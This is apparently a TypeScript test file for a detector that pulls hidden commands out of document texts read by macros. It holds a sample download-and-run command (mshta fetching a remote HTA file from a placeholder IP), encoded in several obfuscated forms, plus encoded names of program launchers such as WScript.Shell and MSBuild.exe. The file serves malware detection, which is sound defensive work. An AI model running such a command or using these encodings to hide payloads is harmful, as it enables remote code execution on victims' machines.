/** Commands in texts that macros read from elsewhere in the document. */

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { storedCommand } from './stored.ts'

const COMMAND = 'mshta http://192.0.2.1/a.hta'
const hex = (separator: string, prefix = ''): string =>
  [...Buffer.from(COMMAND)].map((byte) => prefix + byte.toString(16)).join(separator)

const reversed = [...COMMAND].reverse().join('')
const base64 = Buffer.from(COMMAND).toString('base64')

const CODED: [name: string, text: string][] = [
  ['as it is', COMMAND],
  ['reversed', reversed],
  ['in Base64', base64],
  ['in hexadecimal digits', hex('')],
  ['in digits with separators', hex('|')],
  ['between separators', COMMAND.replace(/.{3}/g, '$&}{*')],
  ['between separators at other distances', COMMAND.replace(/(.)(.{4})/g, '$1qv73x$2qv73x')],
  ['in digits with prefixes', hex(', ', '&H').replaceAll(', ', ',')],
]
for (const [name, text] of CODED)
  test(`a command ${name}`, () => assert.equal(storedCommand(['Name', text, 'Town']), COMMAND))

test('a command in pieces that the macro joins', () => {
  assert.match(storedCommand(['msh', 'ta http://192', '.0.2.1/a.hta']) ?? '', /^mshta http/)
  assert.match(storedCommand(['mshta', 'http://192.0.2.1/a.hta']) ?? '', /mshta http/)
})

test('an encoded name of a program or of an object that starts programs', () => {
  const coded = (text: string): string => Buffer.from(text).toString('hex')
  assert.equal(storedCommand([coded('WScript.Shell')]), 'WScript.Shell')
  assert.equal(storedCommand([coded('C:\\Windows\\MSBuild.exe')]), 'C:\\Windows\\MSBuild.exe')
})

test('a text that repeats itself is none', () => {
  assert.equal(storedCommand(['-=-=-=-=-=-=-=-=-=', 'n/a, n/a, n/a, n/a, n/a, n/a', 'ha ha ha ha ha ha ha ha']), null)
})

test('plain names, numbers and identifiers are none', () => {
  const texts = ['C:\\Windows\\notepad.exe', '20261116', '4f6c64', 'deadbeefdeadbeef', 'Quarter 3', '11 12 13 14 15 16']
  assert.equal(storedCommand(texts), null)
})
